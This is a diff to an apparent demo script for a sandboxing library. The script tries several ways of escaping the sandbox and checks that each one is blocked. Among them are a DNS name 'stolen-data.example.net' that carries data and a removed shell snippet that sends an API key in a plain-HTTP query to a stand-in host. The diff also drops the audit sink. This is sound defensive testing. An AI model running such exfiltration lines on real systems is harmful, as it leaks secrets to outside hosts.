@@ -13,7 +13,7 @@ import os
 import sys
 from typing import TYPE_CHECKING
 
-from isobox import BubblewrapWorkspace, MemorySink, Network, Secret
+from isobox import BubblewrapWorkspace, Network, Secret
 
 if TYPE_CHECKING:
     from isobox import Question
@@ -59,25 +59,19 @@ async def main() -> None:
     """Try ways out, one after the other."""
     os.environ["API_KEY"] = "the-real-key-stays-here"
     secret = Secret("KEY", source="env:API_KEY", hosts=["api.example.org"])
-    sink = MemorySink()
     async with BubblewrapWorkspace(
-        network=NETWORK, secrets=[secret], approve=approve, audit=sink
+        network=NETWORK, secrets=[secret], approve=approve
     ) as ws:
         fetch, dial = ("python3", "-c", FETCH), ("python3", "-c", DIAL)
         await attempt(ws, "A host that no rule allows", *fetch, "http://a.example.net/")
         await attempt(ws, "An address, past the proxy", *dial, "192.0.2.1")
         await attempt(ws, "A name that carries data", *dial, "stolen-data.example.net")
         await attempt(ws, "A person is asked", *fetch, "http://www.example.com/")
-        await attempt(ws, "The secret over plain HTTP", "sh", "-c", LEAK)
-    connects = [r for r in sink.records if r.get("op") == "connect"]
-    print(f"On record: {len(connects)} connections, none of which left")
+        await attempt(ws, "The secret, in the open", "sh", "-c", SEND, "sh", *fetch)
 
 
-#: The placeholder is all that there is inside; even that does not leave in the open.
-LEAK = f"""
-case $KEY in isobox_*) ;; *) echo "the value is inside" ;; esac
-python3 -c '{FETCH}' "http://a.example.net/?key=$KEY"
-"""
+#: What stands inside for the secret goes to its host over TLS, and not otherwise.
+SEND = 'exec "$@" "http://api.example.org/?key=$KEY"'
 
 
 if __name__ == "__main__":
